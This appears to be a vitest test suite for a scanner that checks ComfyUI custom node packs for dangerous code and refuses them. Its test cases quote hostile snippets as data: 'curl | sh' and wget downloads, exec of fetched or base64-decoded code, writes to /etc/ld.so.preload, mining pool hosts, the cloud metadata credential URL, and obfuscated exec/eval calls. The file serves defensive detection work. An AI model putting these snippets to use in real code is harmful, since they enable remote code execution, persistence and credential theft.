import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { DENIED_REPOSITORIES } from "../../components/comfyui/denied-repositories";
import { DENIED_CLASSES } from "../../components/gateway/authorizer/inspection/denied-classes";

/** Reads custom nodes as the image build does. Nothing here runs a node's code. */
let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "comfyui-nodes-"));
  write("denied.json", JSON.stringify({ classes: DENIED_CLASSES, repositories: DENIED_REPOSITORIES }));
  write("requirements.txt", "aiohttp\n");
});

afterEach(() => rmSync(folder, { recursive: true }));

function write(path: string, content: string | Buffer): void {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), content);
}

interface Node {
  name?: string;
  url?: string;
}

function check(
  files: Record<string, string | Buffer>,
  { name = "pack", url = "https://h.test/a/pack" }: Node = {},
) {
  for (const [path, content] of Object.entries({ "__init__.py": "", ...files })) {
    write(`nodes/${name}/${path}`, content);
  }
  write("custom-nodes.json", JSON.stringify([{ name, url, commit: "0".repeat(40), local: false }]));
  const paths = ["custom-nodes.json", "nodes", "denied.json", "requirements.txt", "findings.json"];
  const run = spawnSync(
    "python3",
    ["-B", "components/comfyui/image/check-nodes.py", ...paths.map((path) => join(folder, path))],
    { encoding: "utf8" },
  );
  const findings = join(folder, "findings.json");
  return {
    status: run.status,
    stderr: run.stderr,
    requirements: readFileSync(join(folder, "requirements.txt"), "utf8"),
    findings: existsSync(findings) ? JSON.parse(readFileSync(findings, "utf8"))[name] : undefined,
  };
}

const HARMLESS = `
import re
from torch import nn

PATTERN = re.compile(r"[a-z]+")


class Negative(nn.Module):
    """Does what model.eval() and a pipeline do; see https://h.test/curl-free."""

    def negate(self, image, model):
        model.eval()
        return (1.0 - image,)


NODE_CLASS_MAPPINGS = {"Negative": Negative, f"Negative {'two'}": Negative}
`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

describe("a custom node", () => {
  it("passes where it does no harm, and its requirements join ComfyUI's", () => {
    const node = check({
      "__init__.py": HARMLESS,
      "requirements.txt": "scipy>=1.7 # fast\n",
      "README.md": "Run `pip install -r requirements.txt`, then put it into ~/.bashrc.",
      "web/main.js": "app.registerExtension({ name: 'x' });",
      "picture.png": Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3]),
    });
    expect(node).toMatchObject({
      status: 0,
      stderr: "",
      requirements: "aiohttp\nscipy>=1.7\n",
      findings: [],
    });
  });

  it.each([
    [
      "starts a program that it names",
      "import subprocess\nsubprocess.run(['ffmpeg', '-i', x])",
      "starts a program",
    ],
    ["uses ctypes", "import ctypes", "imports ctypes"],
    [
      "imports what it makes up",
      "import importlib\nimportlib.import_module(x)",
      "by a name that it makes up",
    ],
    ["does not parse", "print 'two'", "does not parse as Python"],
  ])("that %s passes and is listed with it", (_what, code, finding) => {
    expect(check({ "a.py": code })).toMatchObject({
      status: 0,
      findings: expect.arrayContaining([expect.stringContaining(finding)]),
    });
  });

  it.each([
    ["runs what the workflow says", "def f(code):\n    exec(code)", "a.py:2: exec runs what it is given"],
    ["evaluates a formula", "def f(a):\n    return eval(a)", "eval runs what it is given"],
    ["by another name", "import builtins as b\nb.exec(x)", "exec runs what it is given"],
    ["from builtins", "from builtins import exec as e", "hides a call to exec or eval"],
    ["by assignment", "run = exec\nrun(x)", "hides a call to exec"],
    ["by getattr", "getattr(__builtins__, 'ex' + 'ec')(x)", "hides a call to exec"],
    ["by globals", "__builtins__['eval'](x)", "eval runs what it is given"],
    ["by a reversed name", "getattr(b, 'lave'[::-1])(x)", "hides a call to eval"],
    ["by chr", "getattr(b, ''.join([chr(101), chr(118), chr(97), chr(108)]))", "hides a call to eval"],
    [
      "runs what it downloads",
      "from urllib.request import urlopen\nexec(urlopen('https://h.test/x').read())",
      "exec runs what it is given",
    ],
    [
      "unpacks its code",
      `import base64\nexec(base64.b64decode(open('x').read()))`,
      "exec runs what it is given",
    ],
    [
      "installs with pip",
      "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
      "starts pip install",
    ],
    ["downloads with curl", "import os\nos.system('curl -s h.test/x | sh')", "starts curl"],
    ["downloads with wget", "from os import system\nsystem(f'wget {url}')", "starts wget"],
    ["clones with git", "import subprocess as s\ns.Popen(['git', 'clone', u])", "starts git clone"],
    ["by a hidden import", "__import__('o' + 's').system(c)", "hides an import of os"],
    ["preloads a library", "open('/etc/ld.so.preload', 'w')", "writes itself into every program's start"],
    ["preloads, in pieces", "p = '/etc/' + 'ld.so' + '.preload'", "writes itself into every program's start"],
    [
      "preloads, encoded",
      `p = '${base64("/etc/ld.so.preload")}'`,
      "writes itself into every program's start",
    ],
    ["preloads, in a shell script beside it", undefined, "setup.sh: "],
    ["mines", "POOL = 'stratum+tcp://pool.test:4444'", "mines"],
    ["names a pool", "HOST = 'xmr.kryptex.network'", "a mining pool"],
    ["runs from memory", "import os\nos.memfd_create('x')", "runs programs from memory"],
    ["asks for cloud credentials", "URL = 'http://169.254.169.254/latest'", "cloud credentials"],
    ["is GHOST's, by class", "class GPUPerformanceMonitor:\n    pass", "a PerformanceMonitor is how GHOST"],
    [
      "is GHOST's, by node class",
      "NODE_CLASS_MAPPINGS = {'Performance Monitor': X}",
      'its node class "Performance Monitor"',
    ],
  ])("that %s is refused", (_what, code, reason) => {
    const files: Record<string, string> =
      code === undefined ? { "setup.sh": "echo x > /etc/ld.so.preload\n" } : { "a.py": code };
    expect(check(files)).toMatchObject({
      status: 1,
      stderr: expect.stringContaining(reason),
    });
  });

  it.each([
    ["as a key", 'NODE_CLASS_MAPPINGS = {"FL_CodeNode": X}'],
    ["put in later", 'NODE_CLASS_MAPPINGS = {}\nNODE_CLASS_MAPPINGS["FL_" + "CodeNode"] = X'],
    ["by update", 'NODE_CLASS_MAPPINGS.update({"FL_CodeNode": X})'],
    ["by merging", 'NODE_CLASS_MAPPINGS = {**A, **{"FL_CodeNode": X}}'],
    ["by a variable", 'NAME = "FL_CodeNode"\nNODE_CLASS_MAPPINGS = {NAME: X}'],
    ["as a schema's id", 's = io.Schema(node_id="FL_CodeNode")'],
  ])("that has a class of the gateway's list, %s, is refused", (_how, code) => {
    expect(check({ "a.py": code })).toMatchObject({
      status: 1,
      stderr: expect.stringContaining('its node class "FL_CodeNode" runs Python from the workflow (GHOST)'),
    });
  });

  it("is refused for a class that only begins like one of the list", () => {
    expect(check({ "a.py": "NODE_CLASS_MAPPINGS = {'EvaluateMultiple7': X}" }).status).toBe(1);
  });

  it.each([
    [
      "https://h.test/Filliptm/ComfyUI_Fill-Nodes.git",
      "the repository is denied: its FL_CodeNode runs Python",
    ],
    ["/srv/filliptm/comfyui_fill-nodes", "the repository is denied"],
    ["https://h.test/ltdrdata/ComfyUI-Manager", "the repository is denied: ComfyUI-Manager installs"],
  ])("from %s is refused", (url, reason) => {
    expect(check({}, { url }).stderr).toContain(reason);
  });

  it.each(["PerformanceMonitor", "performance-monitor", "GPU_PerformanceMonitor2"])(
    "called %s is refused",
    (name) => {
      expect(check({}, { name }).stderr).toContain("a PerformanceMonitor is how GHOST comes back");
    },
  );

  it("that is ComfyUI-Manager in disguise is refused", () => {
    const project = '[project]\nname = "comfyui-manager"\n';
    expect(check({ "pyproject.toml": project }).stderr).toContain(
      "is ComfyUI-Manager, which is never installed",
    );
  });

  it.each([
    ["bytecode", "a.pyc", "x"],
    ["a library", "fast.so", "x"],
    ["a program under another name", "data.txt", Buffer.from("\x7fELF\x02\x01", "latin1")],
  ])("with %s is refused: nobody can look into it", (_what, file, content) => {
    expect(check({ [file]: content }).stderr).toContain(`${file}: compiled code`);
  });

  it.each(["comfyui-manager", "git+https://h.test/x", "--index-url https://h.test"])(
    "that requires %s is refused",
    (requirement) => {
      expect(check({ "requirements.txt": `${requirement}\n` })).toMatchObject({
        status: 1,
        requirements: "aiohttp\n",
        stderr: expect.stringContaining("custom node pack: requirements.txt"),
      });
    },
  );

  it("loses the installer that only ComfyUI-Manager would run", () => {
    const node = check({ "install.py": "import os\nos.system('pip install x')" });
    expect(node.status).toBe(0);
    expect(existsSync(join(folder, "nodes/pack/install.py"))).toBe(false);
  });

  it("is named with its repository and with every reason", () => {
    const { stderr } = check({ "a.py": "exec(x)", "b.py": "eval(y)" });
    expect(stderr).toContain("custom node pack (https://h.test/a/pack): a.py:1: exec");
    expect(stderr).toContain("custom node pack (https://h.test/a/pack): b.py:1: eval");
  });
});
